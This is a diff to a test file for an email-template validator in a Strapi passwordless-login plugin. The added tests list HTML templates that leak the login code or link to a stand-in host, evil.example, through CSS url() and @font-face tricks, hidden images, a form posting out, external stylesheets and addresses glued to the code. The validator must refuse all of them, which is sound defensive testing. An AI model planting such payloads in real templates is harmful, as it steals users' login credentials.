@@ -5,6 +5,7 @@
  * the way a browser reads HTML (issue 18: a hand-written scanner was fooled three ways).
  */
 import { findMarkupProblems } from '../../packages/strapi-passwordless-login/src/shared/template-markup';
+import { findTextPlacementProblems } from '../../packages/strapi-passwordless-login/src/shared/template-words';
 import { defaultEmailTemplates, defaultLockedTemplates } from '../../packages/strapi-passwordless-login/src/server/config/defaults';
 
 describe('findMarkupProblems', () => {
@@ -17,7 +18,6 @@ describe('findMarkupProblems', () => {
     ['an unquoted href (the URL never holds a space or ">")', '<a href=<%= URL %>>x</a>'],
     ['a ">" inside a quoted attribute before the text', '<p title="a > b">Hi <%= USER.username %></p>'],
     ['a comment closed before the code', '<!-- note --><b><%= CODE %></b>'],
-    ['a style element closed before the code', '<style>p{color:red}</style><p><%= CODE %></p>'],
     ['a quote in text (not an attribute)', `<p>it's <%= CODE %>, "quoted"</p>`],
     ['the link as text', '<p>Open <%= URL %></p>'],
     ['the code in a table cell', '<table><tr><td><%= CODE %></td></tr></table>'],
@@ -71,13 +71,74 @@ describe('findMarkupProblems', () => {
     expect(findMarkupProblems(html)).not.toEqual([]);
   });
 
+  // A review of the parse5 checker (issue 18): each of these passed it, and Chromium 156
+  // sent the code or the link elsewhere (on opening, or on one click).
+  it.each([
+    [
+      '<style> in <select> (parse5 drops it, Chromium keeps it)',
+      '<p>Your code is <%= CODE %></p><select hidden><style>p{background:url(https://evil.example/s?c=<%= CODE %>)}</style></select>',
+      '<select>',
+    ],
+    [
+      'a forged marker in text covering a dropped image',
+      '<select><img src="https://evil.example/?c=<%= CODE %>"></select><p hidden>&#112;lmkq0q plmk0xq1q</p>',
+      '<select>',
+    ],
+    [
+      'a form whose option text is the code',
+      '<form action="https://evil.example/collect"><select name=c hidden><option selected><%= CODE %></option></select><button>Your code is <b><%= CODE %></b></button></form>',
+      '<form>',
+    ],
+    [
+      'a stylesheet with @font-face per digit (tells the code’s digits)',
+      '<style>@font-face{font-family:d;src:url(https://evil.example/has-1);unicode-range:U+31}p{font-family:d}</style><p><%= CODE %></p>',
+      '<style>',
+    ],
+    ['an external stylesheet', '<link rel="stylesheet" href="https://evil.example/s.css"><p><%= CODE %></p>', '<link>'],
+    ['the code glued to an address in text (link scanners fetch it)', '<p hidden>https://evil.example/c/<%= CODE %></p>', 'glued to'],
+    ['the link glued to an address across inline tags', '<p>https://evil.example/u?<b><%= URL %></b></p>', 'glued to'],
+    ['the code glued to the link', '<p><%= URL %><%= CODE %></p>', 'glued to'],
+  ])('refuses %s', (_name, html, where) => {
+    expect(findMarkupProblems(html).join('\n')).toContain(where);
+  });
+
+  it.each([
+    ['punctuation around the code', '<p>Your code: (<%= CODE %>).</p>'],
+    ['the code after a block boundary', '<p>https://shop.example/</p><p><%= CODE %></p>'],
+    ['the code after a line break', 'Visit https://shop.example/<br><%= CODE %>'],
+    ['an image (a logo) and inline styles', '<img src="https://cdn.shop.example/logo.png" alt="Shop" style="width:80px"><p style="font-size:32px"><%= CODE %></p>'],
+  ])('accepts %s', (_name, html) => {
+    expect(findMarkupProblems(html)).toEqual([]);
+  });
+
+  it('answers for deeply nested and very long templates without exhausting the stack', () => {
+    expect(findMarkupProblems(`${'<i>'.repeat(10_000)}<%= CODE %>`)).toEqual([]);
+    expect(findMarkupProblems('<b><%=CODE%></b>'.repeat(201))).toEqual(['more than 200 placeholders']);
+  });
+
   it('names each misplaced placeholder once, whatever the reading', () => {
     expect(findMarkupProblems('<img src="x?<%= CODE %>"><p><%= CODE %></p>')).toEqual([
       '<%= CODE %> inside a tag (only <a href="<%= URL %>"> may hold a placeholder there)',
     ]);
   });
 
-  it('a template that already holds the marker text gets other markers', () => {
-    expect(findMarkupProblems('<img alt="plmkq0q plmk0xq0q"><p><%= CODE %></p>')).toEqual([]);
+});
+
+describe('findTextPlacementProblems (text part and subject)', () => {
+  it.each([
+    ['the default text', defaultEmailTemplates({ withLink: true }).text],
+    ['the locked text', defaultLockedTemplates({ withLink: true }).text],
+    ['punctuation around the code', 'Your code: "<%= CODE %>".'],
+    ['the username glued to anything (not a secret)', 'Hi <%= USER.username %>@shop'],
+  ])('accepts %s', (_name, text) => {
+    expect(findTextPlacementProblems(text)).toEqual([]);
+  });
+
+  it.each([
+    ['the code in an address', 'https://evil.example/c/<%= CODE %>'],
+    ['the link after an address', 'Go: https://evil.example/u?<%= URL %>'],
+    ['the code glued to a word', 'code<%= CODE %>'],
+  ])('refuses %s', (_name, text) => {
+    expect(findTextPlacementProblems(text)).toEqual([expect.stringContaining('glued to')]);
   });
 });
